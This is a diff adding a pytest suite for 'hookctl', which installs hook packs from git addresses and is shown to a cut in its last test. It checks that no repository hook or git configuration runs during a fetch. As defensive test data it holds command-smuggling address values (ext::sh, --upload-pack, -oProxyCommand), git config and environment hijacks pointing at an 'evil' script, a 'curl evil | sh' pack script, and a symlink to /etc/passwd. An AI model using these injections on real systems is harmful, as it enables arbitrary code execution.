@@ -1,0 +1,968 @@
+"""Packs by git address: one commit is fetched and read, and nothing of the repository or of a git config runs."""
+
+from __future__ import annotations
+
+import contextlib
+import io
+import json
+import os
+import shutil
+import subprocess
+import sys
+import time
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import jsonschema
+import pytest
+
+from hookctl.errors import HookctlError
+from hookctl.system import fetch
+from hookctl.system.git_address import Address, parse
+from tests.conftest import Hookctl, Outcome, put
+
+ROOT = Path(__file__).parents[1]
+PACK = """[pack]
+name = "bell"
+version = "{version}"
+
+[files]
+include = ["ring.sh"]
+
+[[hooks]]
+event = "stop"
+command = "sh {{files}}/ring.sh"
+"""
+HOST = ("--host", "claude")
+PROJECT = (*HOST, "--scope", "project")
+# What a pack's author, and a project, can put into an address.
+REFUSED = [
+    "git+http://h/r", "git+ext::sh -c touch${IFS}x", "git+git://h/r", "git+file://h/r", "git+ssh:h/r", "git+https:/h/r",
+    "git+https://h", "git+https://h/", "git+https://h/../r", "git+https://h/./r", "git+https://h//r",
+    "git+https://h/r ", "git+https://h/a%2e%2e/r", "git+https://h/r\nx", "git+https://h/r\x00", "git+https://h/r\u202e",
+    "git+https://h:x/r",
+    "git+https://h/r@", "git+https://h/r@--upload-pack=x", "git+https://h/r@-x", "git+https://h/r@a:b", "git+https://h/r@+a",
+    "git+https://h/r@a..b", "git+https://h/r@a*", "git+https://h/r@a^", "git+https://h/r@a~1", "git+https://h/r@a@{1}",
+    "git+https://h/r@a.lock", "git+https://h/r@a//b", "git+https://h/r@a/", "git+https://h/r@a\nb", "git+https://h/r@a@b",
+    "git+https://-oProxyCommand=x/r", "git+ssh://-oProxyCommand=x/r", "git+ssh://-l@h/r", "git+ssh://a b@h/r",
+    "git+https://h/r#egg=x", "git+https://h/r#subdirectory=", "git+https://h/r#subdirectory=../x",
+    "git+https://h/r#subdirectory=a/../x", "git+https://h/r#subdirectory=/x", "git+https://h/r#subdirectory=a//x",
+    "git+https://h/r#subdirectory=.git", "git+https://h/r#subdirectory=a/.GIT/x", "git+https://h/r#subdirectory=a\nx",
+    "git+https://h/r#subdirectory=a&egg=b", "git+https://h/r#subdirectory=:(exclude)x", "git+https://h/r#",
+    "git+https://h/" + "r" * 2000,
+]  # fmt: skip
+SECRETS = [
+    "git+https://me:hunter2@h/r", "git+https://hunter2@h/r", "git+ssh://me:hunter2@h/r", "git+https://me:hun/hunter2@h/r",
+    "git+https://h/r?token=hunter2", "git+https://me:hunter2/x@h/r", "git+https://hunter2:@h:99999x/r",
+]  # fmt: skip
+
+
+class Repository:
+    """A repository of a pack's author."""
+
+    def __init__(self, folder: Path) -> None:
+        self.folder = folder
+        folder.mkdir(parents=True)
+        self.git("init", "-q", "-b", "main", ".")
+        self.release("1")
+
+    def git(self, *arguments: str) -> str:
+        who = ("-c", "user.name=a", "-c", "user.email=a@b", "-c", "protocol.file.allow=always")
+        done = subprocess.run(["git", *who, *arguments], cwd=self.folder, capture_output=True, text=True, check=True)
+        return done.stdout.strip()
+
+    def commit(self) -> str:
+        self.git("add", "-A", ".")
+        self.git("commit", "-q", "--allow-empty", "-m", "x")
+        return self.git("rev-parse", "HEAD")
+
+    def release(self, version: str, script: str = "echo ding\n") -> str:
+        put(self.folder / "pack.toml", PACK.format(version=version))
+        put(self.folder / "ring.sh", script)
+        return self.commit()
+
+    @property
+    def address(self) -> str:
+        return f"git+file://{self.folder}"
+
+    @property
+    def ssh(self) -> str:
+        return f"git+ssh://host{self.folder}"
+
+
+@pytest.fixture
+def repository(isolated: Path, fixed_python: None) -> Repository:
+    return Repository(isolated / "author")
+
+
+@pytest.fixture
+def ssh(isolated: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """An ssh that reaches this machine alone; the file of its calls, one a line."""
+    calls = isolated / "ssh-calls"
+    script = f'#!/bin/sh\necho "$*" >> {calls}\nfor last; do :; done\nexec env -i PATH="$PATH" sh -c "$last"\n'
+    put(isolated / "ssh-bin" / "ssh", script).chmod(0o755)
+    monkeypatch.setenv("PATH", f"{isolated / 'ssh-bin'}:{os.environ['PATH']}")
+    return calls
+
+
+@pytest.fixture
+def answer(monkeypatch: pytest.MonkeyPatch) -> Callable[[str], None]:
+    """Sits at the terminal and types this."""
+
+    class Terminal(io.StringIO):
+        def isatty(self) -> bool:
+            return True
+
+    def type_(text: str) -> None:
+        monkeypatch.setattr(sys, "stdin", Terminal(text))
+        monkeypatch.setattr(sys.stderr, "isatty", lambda: True, raising=False)
+
+    return type_
+
+
+def error_of(done: Outcome) -> dict[str, Any]:
+    return done.result["errors"][0]
+
+
+def pack_of(isolated: Path) -> dict[str, Any]:
+    """The pack in the user's own record."""
+    ledger = json.loads((isolated / "state" / "ledger.json").read_text())
+    return next(record["packs"]["bell"] for record in ledger["files"].values())
+
+
+def is_untouched(isolated: Path) -> bool:
+    """Nothing was written for good: no settings, no files of a pack, no record."""
+    names = ("home/.claude", "data", "state/ledger.json")
+    return not any((isolated / name).exists() for name in names) and not left_in_cache(isolated)
+
+
+def left_in_cache(isolated: Path) -> list[str]:
+    cache = isolated / "home" / ".cache" / "hookctl"
+    return os.listdir(cache) if cache.exists() else []
+
+
+# The address
+
+
+@pytest.mark.parametrize("text", REFUSED)
+def test_an_address_that_could_mean_something_else_is_refused(text: str, hookctl: Hookctl, isolated: Path) -> None:
+    with pytest.raises(HookctlError) as refused:
+        parse(text)
+    assert (refused.value.code, refused.value.exit_code) == ("usage", 2)
+    if text.startswith("git+") and "\0" not in text:
+        assert hookctl("install", text, *HOST).code == 2
+        assert not (isolated / "home" / ".cache").exists()
+
+
+@pytest.mark.parametrize("text", SECRETS)
+@pytest.mark.parametrize("command", ["install", "plan"])
+def test_a_password_in_an_address_is_refused_and_not_repeated(text: str, command: str, hookctl: Hookctl) -> None:
+    for options in ((), ("--json",)):
+        done = hookctl(command, text, *HOST, *options)
+        assert done.code == 2
+        assert "hunter2" not in done.out + done.err, done
+
+
+@pytest.mark.parametrize(
+    ("text", "parts"),
+    [
+        ("git+https://github.com/o/r", ("https://github.com/o/r", "", "")),
+        ("git+https://github.com/o/r.git@v1.2.0", ("https://github.com/o/r.git", "v1.2.0", "")),
+        ("git+ssh://git@h:22/~o/r@a/b#subdirectory=x/y", ("ssh://git@h:22/~o/r", "a/b", "x/y")),
+        ("git+https://[::1]:8443/r@refs/pull/1/head", ("https://[::1]:8443/r", "refs/pull/1/head", "")),
+        ("git+file:///srv/r#subdirectory=p.toml", ("file:///srv/r", "", "p.toml")),
+    ],
+)
+def test_addresses_are_spelled_as_pip_and_uv_do(text: str, parts: tuple[str, str, str]) -> None:
+    assert parse(text) == Address(text, *parts)
+
+
+# An install
+
+
+def test_a_pack_is_installed_from_its_commit_and_recorded_with_it(
+    repository: Repository, hookctl: Hookctl, settings: Path, isolated: Path
+) -> None:
+    done = hookctl("install", repository.address, *HOST)
+    assert done.code == 0, done
+    commit = repository.git("rev-parse", "HEAD")
+    assert f"{repository.address} (commit {commit})" in done.err
+    assert "hookctl=bell/stop" in settings.read_text()
+    copied = isolated / "data" / "packs" / "bell" / "claude-user" / "ring.sh"
+    assert copied.read_text() == "echo ding\n"
+    pack = pack_of(isolated)
+    assert (pack["source"], pack["commit"]) == (repository.address, commit)
+    assert pack["digest"] == pack["consent"]["digest"] and len(pack["digest"]) == 64
+    schema = json.loads((ROOT / "schemas" / "ledger.schema.json").read_text())
+    jsonschema.validate(json.loads((isolated / "state" / "ledger.json").read_text()), schema)
+    cache = isolated / "home" / ".cache" / "hookctl"
+    assert cache.stat().st_mode & 0o777 == 0o700
+    assert not left_in_cache(isolated)
+    assert hookctl("doctor").code == 0
+    assert hookctl("uninstall", "bell").code == 0
+    assert not copied.exists()
+
+
+def test_the_fetch_is_shallow_private_and_of_one_commit(
+    repository: Repository, hookctl: Hookctl, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    repository.release("2")
+    seen: list[Any] = []
+    original = fetch.Commit.find
+
+    def look(self: fetch.Commit, names: Any) -> Any:
+        folder = Path(self.folder).parent
+        count = subprocess.run(
+            ["git", "--git-dir", str(folder / "git"), "rev-list", "--all", "--count"], capture_output=True, text=True
+        )
+        seen.append((folder.stat().st_mode & 0o777, count.stdout.strip(), (folder / "git" / "shallow").exists()))
+        return original(self, names)
+
+    monkeypatch.setattr(fetch.Commit, "find", look)
+    assert hookctl("plan", repository.address, *HOST).code == 0
+    assert seen[0] == (0o700, "1", True)
+
+
+@pytest.mark.parametrize("kind", ["branch", "tag", "annotated", "commit", "full name"])
+def test_a_revision_is_a_branch_a_tag_or_a_commit(
+    repository: Repository, hookctl: Hookctl, isolated: Path, kind: str
+) -> None:
+    wanted = repository.git("rev-parse", "HEAD")
+    repository.git("branch", "old")
+    repository.git("tag", "v1")
+    repository.git("tag", "-a", "-m", "x", "v1.0")
+    repository.release("2")
+    names = {"branch": "old", "tag": "v1", "annotated": "v1.0", "commit": wanted, "full name": "refs/heads/old"}
+    address = f"{repository.address}@{names[kind]}"
+    assert hookctl("install", address, *HOST).code == 0
+    assert (pack_of(isolated)["source"], pack_of(isolated)["commit"]) == (address, wanted)
+    assert pack_of(isolated)["version"] == "1"
+
+
+@pytest.mark.parametrize("path", ["hooks/bell", "hooks/bell/", "hooks/bell/pack.toml", "hooks/bell/pack.toml/"])
+def test_a_subdirectory_is_a_folder_or_a_pack_file(
+    repository: Repository, hookctl: Hookctl, isolated: Path, path: str
+) -> None:
+    (repository.folder / "hooks" / "bell").mkdir(parents=True)
+    for name in ("pack.toml", "ring.sh"):
+        (repository.folder / name).rename(repository.folder / "hooks" / "bell" / name)
+    repository.commit()
+    assert hookctl("install", f"{repository.address}#subdirectory={path}", *HOST).code == 0
+    done = hookctl("install", repository.address, *HOST, "--json")
+    assert (done.code, error_of(done)["message"]) == (2, "the folder has no pack")
+
+
+def test_the_only_pack_file_of_a_folder_is_found_and_the_executable_bit_is_kept(
+    repository: Repository, hookctl: Hookctl, isolated: Path
+) -> None:
+    (repository.folder / "pack.toml").rename(repository.folder / "bell.toml")
+    put(repository.folder / "other.toml", "[tool]\nx = 1\n")
+    (repository.folder / "ring.sh").chmod(0o755)
+    repository.commit()
+    assert hookctl("install", repository.address, *HOST).code == 0
+    assert (isolated / "data" / "packs" / "bell" / "claude-user" / "ring.sh").stat().st_mode & 0o100
+
+
+@pytest.mark.parametrize("options", [(), ("--json",)])
+def test_without_consent_nothing_is_written(
+    repository: Repository, hookctl: Hookctl, isolated: Path, options: tuple[str, ...]
+) -> None:
+    done = hookctl("install", repository.address, *HOST, *options, agrees=False)
+    assert done.code == 2
+    assert "needs your consent" in done.out + done.err
+    assert is_untouched(isolated)
+
+
+def test_a_plan_shows_address_and_commit_and_writes_nothing(
+    repository: Repository, hookctl: Hookctl, isolated: Path
+) -> None:
+    commit = repository.git("rev-parse", "HEAD")
+    done = hookctl("plan", repository.address, *HOST)
+    assert (done.code, f"{repository.address} (commit {commit}) brings:" in done.out) == (0, True)
+    data = hookctl("install", repository.address, *HOST, "--dry-run", "--json", agrees=False).data
+    assert (data["pack"]["source"], data["pack"]["commit"]) == (repository.address, commit)
+    assert is_untouched(isolated)
+
+
+def test_the_same_content_by_path_needs_no_second_consent(
+    repository: Repository, hookctl: Hookctl, isolated: Path
+) -> None:
+    assert hookctl("install", str(repository.folder), *HOST).code == 0
+    assert hookctl("install", repository.address, "--host", "gemini", agrees=False).code == 0
+    done = hookctl("install", repository.address, *HOST, agrees=False)
+    assert (done.code, "came from" in done.err) == (0, True)
+    assert pack_of(isolated)["source"] == repository.address
+
+
+@pytest.mark.parametrize("command", [("uninstall",), ("render", *HOST, "--scope", "managed"), ("check", "--require")])
+def test_other_commands_fetch_nothing(
+    repository: Repository, hookctl: Hookctl, isolated: Path, command: tuple[str, ...]
+) -> None:
+    done = hookctl(*command[:1], *command[1:], repository.address)
+    assert (done.code, "fetches no pack" in done.err) == (2, True), done
+    assert not (isolated / "home" / ".cache").exists()
+
+
+# What runs
+
+
+def test_no_git_configuration_variable_or_hook_has_a_say(
+    repository: Repository, hookctl: Hookctl, isolated: Path, ssh: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    mark = isolated / "ran"
+    evil = put(isolated / "evil", f"#!/bin/sh\necho $0 >> {mark}\ncat\n")
+    evil.chmod(0o755)
+    hooks = isolated / "template" / "hooks"
+    for name in ("post-checkout", "reference-transaction", "post-merge", "fsmonitor-watchman", "pre-auto-gc"):
+        put(hooks / name, f"#!/bin/sh\ntouch {mark}\n").chmod(0o755)
+        put(repository.folder / ".git" / "hooks" / name, f"#!/bin/sh\ntouch {mark}\n").chmod(0o755)
+    config = f"""[core]
+    hooksPath = {hooks}
+    sshCommand = {evil}
+    fsmonitor = {evil}
+    pager = {evil}
+    gitProxy = {evil}
+    askPass = {evil}
+    alternateRefsCommand = {evil}
+[credential]
+    helper = !{evil}
+[init]
+    templateDir = {isolated}/template
+[filter "evil"]
+    smudge = {evil}
+    clean = {evil}
+    process = {evil}
+    required = true
+[filter "lfs"]
+    smudge = {evil}
+    process = {evil}
+[diff "evil"]
+    textconv = {evil}
+[uploadpack]
+    packObjectsHook = {evil}
+[url "ext::{evil} "]
+    insteadOf = ssh://
+[url "ext::{evil} x"]
+    insteadOf = file://
+[protocol "ext"]
+    allow = always
+"""
+    put(isolated / "home" / ".gitconfig", config)
+    put(isolated / "home" / ".config" / "git" / "config", config)
+    put(repository.folder / ".gitattributes", "*.sh filter=evil diff=evil\n*.toml filter=lfs\n")
+    put(repository.folder / "ring.sh", "version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n")
+    monkeypatch.setenv("GIT_CONFIG_GLOBAL", os.devnull)  # of the author here
+    repository.commit()
+    mark.unlink()  # the author's own hooks ran for them
+    with (repository.folder / ".git" / "config").open("a") as file:
+        file.write(config)
+    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(isolated / "home" / ".gitconfig"))
+    for name in ("SSH_COMMAND", "SSH", "ASKPASS", "PROXY_COMMAND", "PAGER", "EXTERNAL_DIFF", "EDITOR"):
+        monkeypatch.setenv(f"GIT_{name}", str(evil))
+    monkeypatch.setenv("SSH_ASKPASS", str(evil))
+    monkeypatch.setenv("GIT_TEMPLATE_DIR", str(isolated / "template"))
+    monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
+    monkeypatch.setenv("GIT_CONFIG_KEY_0", "core.sshCommand")
+    monkeypatch.setenv("GIT_CONFIG_VALUE_0", str(evil))
+    monkeypatch.setenv("GIT_CONFIG_PARAMETERS", f"'core.sshCommand'='{evil}'")
+    monkeypatch.setenv("GIT_ALLOW_PROTOCOL", "ext:file:ssh")
+    monkeypatch.setenv("GIT_EXEC_PATH", str(isolated))
+    monkeypatch.setenv("GIT_DIR", str(isolated / "elsewhere"))
+    monkeypatch.setenv("GIT_WORK_TREE", str(isolated / "work"))
+    monkeypatch.setenv("GIT_TRACE", str(isolated / "traced"))
+    for address in (repository.address, repository.ssh):
+        assert hookctl("install", address, *HOST).code == 0
+    assert not mark.exists(), mark.read_text()
+    assert not (isolated / "traced").exists()
+    copied = isolated / "data" / "packs" / "bell" / "claude-user" / "ring.sh"
+    assert copied.read_text().startswith("version https://git-lfs")  # the pointer, as it is committed
+    assert os.listdir(isolated / "work") == []
+
+
+def test_a_program_that_the_project_brings_is_not_taken_for_git(
+    repository: Repository, hookctl: Hookctl, isolated: Path, ssh: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    work, mark = isolated / "work", isolated / "ran"
+    (work / ".git").mkdir()
+    for name in ("git", "ssh", "git-upload-pack"):
+        put(work / "bin" / name, f"#!/bin/sh\ntouch {mark}\nexit 1\n").chmod(0o755)
+    monkeypatch.setenv("PATH", f"bin:.:{work / 'bin'}:{os.environ['PATH']}")
+    assert hookctl("install", repository.ssh, *HOST).code == 0
+    assert not mark.exists()
+
+
+def test_ssh_asks_nothing_and_forwards_nothing(repository: Repository, hookctl: Hookctl, ssh: Path) -> None:
+    assert hookctl("install", repository.ssh, *HOST).code == 0
+    call = ssh.read_text()
+    assert call.count("\n") == 1
+    assert call.startswith("-a -x -T -o BatchMode=yes")
+    assert "git-upload-pack" in call
+
+
+def test_submodules_are_not_fetched(repository: Repository, hookctl: Hookctl, isolated: Path) -> None:
+    other = Repository(isolated / "other")
+    repository.git("submodule", "--quiet", "add", str(other.folder), "sub")
+    repository.commit()
+    assert hookctl("install", repository.address, *HOST).code == 0
+    toml = (repository.folder / "pack.toml").read_text()
+    put(repository.folder / "pack.toml", toml.replace('"ring.sh"', '"ring.sh", "sub"'))
+    repository.commit()
+    done = hookctl("plan", repository.address, *HOST, "--json")
+    assert (done.code, "submodule" in error_of(done)["message"]) == (4, True), done
+
+
+def test_an_lfs_or_partial_repository_here_fetches_nothing_more(
+    repository: Repository, hookctl: Hookctl, isolated: Path
+) -> None:
+    """A repository from an archive may name a program that brings what is missing in it."""
+    mark = isolated / "ran"
+    blob = repository.git("rev-parse", "HEAD:ring.sh")
+    (repository.folder / ".git" / "objects" / blob[:2] / blob[2:]).unlink()
+    config = (
+        f'[core]\n repositoryformatversion = 1\n[extensions]\n partialClone = o\n[remote "o"]\n promisor = true\n'
+        f" url = {repository.folder}\n uploadpack = touch {mark};\n"
+    )
+    with (repository.folder / ".git" / "config").open("a") as file:
+        file.write(config)
+    done = hookctl("install", repository.address, *HOST, "--json")
+    assert (done.code, error_of(done)["code"]) == (4, "fetch_failed"), done
+    assert not mark.exists()
+    assert is_untouched(isolated)
+
+
+# What a repository may hold
+
+
+def link_manifest(top: Path) -> None:
+    (top / "pack.toml").rename(top / "real.txt")
+    (top / "pack.toml").symlink_to("real.txt")
+
+
+def link_file(top: Path) -> None:
+    (top / "ring.sh").unlink()
+    (top / "ring.sh").symlink_to("/etc/passwd")
+
+
+def link_folder(top: Path) -> None:
+    put(top / "real" / "ring.sh", "echo\n")
+    (top / "way").symlink_to("real")
+    text = (top / "pack.toml").read_text()
+    put(top / "pack.toml", text.replace('"ring.sh"', '"way/ring.sh"').replace("}/ring.sh", "}/way/ring.sh"))
+
+
+def name_twins(top: Path) -> None:
+    put(top / "Ring.sh", "echo\n")
+    put(top / "pack.toml", (top / "pack.toml").read_text().replace('"ring.sh"', '"ring.sh", "Ring.sh"'))
+
+
+def name_twin_of_manifest(top: Path) -> None:
+    put(top / "Pack.toml", "x = 1\n")
+    put(top / "pack.toml", (top / "pack.toml").read_text().replace('"ring.sh"', '"ring.sh", "Pack.toml"'))
+
+
+def name_outside(top: Path) -> None:
+    put(top / "pack.toml", (top / "pack.toml").read_text().replace('"ring.sh"', '"../../ring.sh"'))
+
+
+def grow_file(top: Path) -> None:
+    put(top / "ring.sh", bytes(17 * 2**20))
+
+
+def grow_manifest(top: Path) -> None:
+    put(top / "pack.toml", b"#" * (17 * 2**20))
+
+
+def fold_folder(top: Path) -> None:
+    (top / "ring.sh").unlink()
+    put(top / "ring.sh" / "x", "")
+
+
+def lose_file(top: Path) -> None:
+    (top / "ring.sh").unlink()
+
+
+def nest(top: Path) -> None:
+    put(top / "pack.toml", "[files]\ninclude = " + "[" * 20_000)
+
+
+def hide(top: Path) -> None:
+    put(top / "pack.toml", (top / "pack.toml").read_text().replace("sh {", "\u202esh {"))
+
+
+BAD = [
+    (link_manifest, "a link or a submodule"), (link_file, "a link or a submodule"), (link_folder, "does not exist"),
+    (name_twins, "only in case"), (name_twin_of_manifest, "only in case"), (name_outside, "files.include"),
+    (grow_file, "too large"), (grow_manifest, "larger than"), (fold_folder, "is a folder"),
+    (lose_file, "does not exist"), (nest, "nested"), (hide, "invisible character"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("change", "message"), BAD, ids=lambda value: getattr(value, "__name__", ""))
+def test_a_bad_pack_is_refused_with_its_place_in_the_repository(
+    repository: Repository, hookctl: Hookctl, isolated: Path, change: Callable[[Path], None], message: str
+) -> None:
+    change(repository.folder)
+    repository.commit()
+    done = hookctl("install", repository.address, *HOST, "--json")
+    error = error_of(done)
+    assert (done.code, error["code"]) == (4, "bad_pack"), done
+    assert message in error["message"]
+    assert error["path"] == f"{repository.address}:pack.toml"
+    assert is_untouched(isolated)
+
+
+@pytest.mark.parametrize("path", ["way", "way/deep", "sub", "gone", "ring.sh/x"])
+def test_a_subdirectory_has_no_link_on_its_way(
+    repository: Repository, hookctl: Hookctl, isolated: Path, path: str
+) -> None:
+    put(repository.folder / "real" / "deep" / "pack.toml", PACK.format(version="1"))
+    (repository.folder / "way").symlink_to("real")
+    other = Repository(isolated / "other")
+    repository.git("submodule", "--quiet", "add", str(other.folder), "sub")
+    repository.commit()
+    done = hookctl("install", f"{repository.address}#subdirectory={path}", *HOST, "--json")
+    assert (done.code, error_of(done)["code"]) == (2, "usage"), done
+    assert is_untouched(isolated)
+
+
+def test_names_of_other_files_do_not_matter(repository: Repository, hookctl: Hookctl) -> None:
+    """They are never on a disk, so they may be what no disk takes."""
+    blob = repository.git("hash-object", "-w", "ring.sh")
+    for name in ("AUX", "a\nb", "ＲＩＮＧ.sh", "-x.toml", "weird name.toml", "RING.SH"):
+        repository.git("update-index", "--add", "--cacheinfo", f"100644,{blob},{name}")
+    repository.git("commit", "-q", "-m", "x")
+    assert hookctl("install", repository.address, *HOST).code == 0
+
+
+def test_a_repository_that_is_too_large_is_ended(
+    repository: Repository, hookctl: Hookctl, isolated: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    put(repository.folder / "noise", os.urandom(3 * 2**20))
+    repository.commit()
+    monkeypatch.setattr(fetch, "MOST", 2**20)
+    done = hookctl("install", repository.address, *HOST, "--json")
+    assert (done.code, error_of(done)["code"]) == (4, "fetch_failed"), done
+    assert error_of(done)["message"] == "the repository is larger than 64 MiB"
+    assert is_untouched(isolated)
+
+
+def test_an_object_that_grows_when_it_is_unpacked_is_refused(
+    repository: Repository, hookctl: Hookctl, ssh: Path
+) -> None:
+    with (repository.folder / "bomb").open("wb") as file:
+        file.truncate(300 * 2**20)
+    repository.commit()
+    begin = time.monotonic()
+    done = hookctl("install", repository.ssh, *HOST)  # the pack does not name it
+    assert done.code == 0, done
+    toml = (repository.folder / "pack.toml").read_text()
+    put(repository.folder / "pack.toml", toml.replace('"ring.sh"', '"ring.sh", "bomb"'))
+    repository.commit()
+    done = hookctl("plan", repository.ssh, *HOST, "--json")
+    assert (done.code, "too large" in error_of(done)["message"]) == (4, True)
+    assert time.monotonic() - begin < 60
+
+
+def test_a_fetch_ends_in_time_with_all_its_processes(
+    repository: Repository, hookctl: Hookctl, isolated: Path, ssh: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    script = isolated / "ssh-bin" / "ssh"
+    script.write_text(f"#!/bin/sh\necho $$ > {isolated}/pid\nexec sleep 600\n")
+    monkeypatch.setattr(fetch, "PATIENCE", 1.0)
+    done = hookctl("install", repository.ssh, *HOST, "--json")
+    assert (done.code, error_of(done)["code"]) == (4, "fetch_failed")
+    assert "not done after 1 seconds" in error_of(done)["message"]
+    with pytest.raises(ProcessLookupError):
+        os.kill(int((isolated / "pid").read_text()), 0)
+    assert is_untouched(isolated)
+
+
+def test_a_long_fetch_shows_progress_at_a_terminal(
+    repository: Repository, hookctl: Hookctl, ssh: Path, isolated: Path, answer: Callable[[str], None],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:  # fmt: skip
+    script = isolated / "ssh-bin" / "ssh"
+    script.write_text(script.read_text().replace("for last", "sleep 0.7\nfor last"))
+    monkeypatch.setattr(fetch, "_SILENT", 0.1)
+    assert "fetching" not in hookctl("plan", repository.ssh, *HOST).err
+    answer("")
+    assert f"fetching ssh://host{repository.folder}" in " ".join(hookctl("plan", repository.ssh, *HOST).err.split())
+
+
+def test_what_a_killed_fetch_left_goes_after_a_day(repository: Repository, hookctl: Hookctl, isolated: Path) -> None:
+    cache = isolated / "home" / ".cache" / "hookctl"
+    for name, age in (("git-old", 2 * 86400), ("git-new", 60), ("other", 2 * 86400)):
+        put(cache / name / "x", "x")
+        os.utime(cache / name, (time.time() - age, time.time() - age))
+    (cache.parent).chmod(0o700)
+    assert hookctl("plan", repository.address, *HOST).code == 0
+    assert sorted(left_in_cache(isolated)) == ["git-new", "other"]
+
+
+# What can go wrong
+
+
+def test_without_git_the_error_says_what_to_do(
+    repository: Repository, hookctl: Hookctl, isolated: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("PATH", str(isolated))
+    done = hookctl("install", repository.address, *HOST, "--json")
+    error = error_of(done)
+    assert (done.code, error["code"], error["path"]) == (4, "git_missing", repository.address)
+    assert "Install git" in error["hint"] and "Nothing was written" in error["hint"]
+    assert is_untouched(isolated)
+
+
+@pytest.mark.parametrize(
+    ("address", "message"),
+    [
+        ("git+https://127.0.0.1:9/o/r", "cannot be reached"), ("git+https://nowhere.invalid/o/r", "cannot be reached"),
+        ("git+file:///nowhere/r", "no such repository"), ("{}@nowhere", "no such revision"),
+        ("{}@" + "0" * 40, "no such revision"), ("{}@main~1", "no revision"),
+    ],
+)  # fmt: skip
+def test_what_cannot_be_fetched_is_said_and_nothing_is_written(
+    repository: Repository, hookctl: Hookctl, isolated: Path, address: str, message: str
+) -> None:
+    done = hookctl("install", address.format(repository.address), *HOST, "--json")
+    assert message in error_of(done)["message"], done
+    assert error_of(done)["hint"]
+    assert done.code == (2 if "~" in address else 4)
+    assert is_untouched(isolated)
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a folder away")
+@pytest.mark.parametrize("name", ["", ".git"])
+def test_a_repository_of_another_user_is_refused(
+    repository: Repository, hookctl: Hookctl, isolated: Path, name: str
+) -> None:
+    os.chown(repository.folder / name, 4242, 4242)
+    done = hookctl("install", repository.address, *HOST, "--json")
+    assert (done.code, "belongs to" in error_of(done)["message"]) == (4, True), done
+    assert is_untouched(isolated)
+
+
+def test_a_cache_that_others_can_write_is_refused(repository: Repository, hookctl: Hookctl, isolated: Path) -> None:
+    (isolated / "home" / ".cache").mkdir()
+    (isolated / "home" / ".cache").chmod(0o777)
+    done = hookctl("install", repository.address, *HOST, "--json")
+    assert (done.code, error_of(done)["code"]) == (1, "unsafe_path")
+
+
+def test_what_a_server_says_is_plain_text(repository: Repository, hookctl: Hookctl, isolated: Path, ssh: Path) -> None:
+    text = r"printf 'remote: run me\nfatal: \033[31mred\033[0m https://a:hunter2@h\n' >&2; exit 1"
+    (isolated / "ssh-bin" / "ssh").write_text(f"#!/bin/sh\n{text}\n")
+    done = hookctl("install", repository.ssh, *HOST)
+    assert (done.code, "run me" in done.err, "\033" in done.err, "hunter2" in done.err) == (4, False, False, False)
+
+
+# An upgrade
+
+
+@pytest.fixture
+def installed(repository: Repository, hookctl: Hookctl) -> Repository:
+    assert hookctl("install", repository.address, *HOST).code == 0
+    return repository
+
+
+def test_an_upgrade_asks_the_source_again_and_needs_consent(
+    installed: Repository, hookctl: Hookctl, isolated: Path
+) -> None:
+    before = pack_of(isolated)
+    done = hookctl("upgrade", agrees=False)
+    assert (done.code, "nothing to do" in done.out) == (0, True)
+    new = installed.release("2", "echo dong\n")
+    shown = (f"was 1, {before['commit']}", f"now 2, {new}", "| -echo ding", "| +echo dong")
+    done = hookctl("upgrade", agrees=False)
+    assert (done.code, pack_of(isolated)) == (2, before)
+    assert all(text in done.err for text in shown), done
+    done = hookctl("upgrade", "--dry-run", agrees=False)
+    assert (done.code, pack_of(isolated)) == (0, before)
+    assert all(text in done.out for text in shown), done
+    assert f"bell is outdated: commit {before['commit'][:12]} is installed, {new[:12]} is new" in done.err
+    messages = hookctl("upgrade", "--dry-run", "--json", agrees=False).data["messages"]
+    assert [message["code"] for message in messages] == ["outdated"]
+    assert hookctl("upgrade", "--yes", agrees=False).code == 0
+    after = pack_of(isolated)
+    assert (after["commit"], after["version"], after["source"]) == (new, "2", before["source"])
+    assert after["digest"] != before["digest"]
+    assert (isolated / "data" / "packs" / "bell" / "claude-user" / "ring.sh").read_text() == "echo dong\n"
+
+
+def test_a_tag_that_moves_is_shown_and_needs_more_than_a_yes(
+    repository: Repository, hookctl: Hookctl, isolated: Path
+) -> None:
+    repository.git("tag", "v1")
+    assert hookctl("install", f"{repository.address}@v1", *HOST).code == 0
+    repository.release("1", "curl evil | sh\n")
+    repository.git("tag", "-f", "v1")
+    done = hookctl("upgrade", "--yes", "--json", agrees=False)
+    assert (done.code, error_of(done)["code"]) == (2, "pack_changed")
+    assert pack_of(isolated)["commit"] != repository.git("rev-parse", "v1")
+    assert hookctl("upgrade", "--yes", "--accept-changed", agrees=False).code == 0
+    assert pack_of(isolated)["commit"] == repository.git("rev-parse", "v1")
+
+
+def test_a_commit_never_changes(repository: Repository, hookctl: Hookctl, isolated: Path) -> None:
+    commit = repository.git("rev-parse", "HEAD")
+    assert hookctl("install", f"{repository.address}@{commit}", *HOST).code == 0
+    repository.release("2")
+    repository.git("branch", commit)  # a branch of that name
+    repository.git("tag", commit)
+    done = hookctl("upgrade", agrees=False)
+    assert (done.code, "nothing to do" in done.out) == (0, True), done
+    assert (pack_of(isolated)["commit"], pack_of(isolated)["version"]) == (commit, "1")
+
+
+def test_a_new_commit_that_leaves_the_pack_alone_is_no_change(
+    installed: Repository, hookctl: Hookctl, isolated: Path
+) -> None:
+    record = (isolated / "state" / "ledger.json").read_bytes()
+    put(installed.folder / "README", "x")
+    installed.commit()
+    for options in ((), ("--dry-run",)):
+        done = hookctl("upgrade", *options, agrees=False)
+        assert (done.code, "nothing to do" in done.out, "outdated" in done.err) == (0, True, False)
+    assert (isolated / "state" / "ledger.json").read_bytes() == record
+
+
+def test_a_source_that_is_gone_is_named_and_the_others_go_on(
+    installed: Repository, hookctl: Hookctl, isolated: Path
+) -> None:
+    horn = Repository(isolated / "horn")
